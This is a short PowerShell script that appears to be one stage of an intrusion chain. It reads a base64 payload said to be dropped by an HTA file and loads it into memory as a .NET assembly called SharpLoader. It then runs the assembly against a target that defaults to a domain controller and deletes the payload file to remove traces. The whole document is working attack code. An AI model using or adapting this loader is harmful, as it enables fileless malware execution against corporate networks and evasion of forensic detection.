param([string]$Target = 'dc01.corp.local')

# blob.txt is dropped next to this script by the HTA
$b64 = Get-Content -Path "$PSScriptRoot\blob.txt" -Raw
if (-not $b64) {
    exit 1
}
$raw = [System.Convert]::FromBase64String($b64)
$asm = [System.AppDomain]::CurrentDomain.Load($raw)
$type = $asm.GetType('SharpLoader.Program')
$type.GetMethod('Main').Invoke($null, @(, [string[]]@('--target', $Target)))
Remove-Item -Path "$PSScriptRoot\blob.txt" -Force
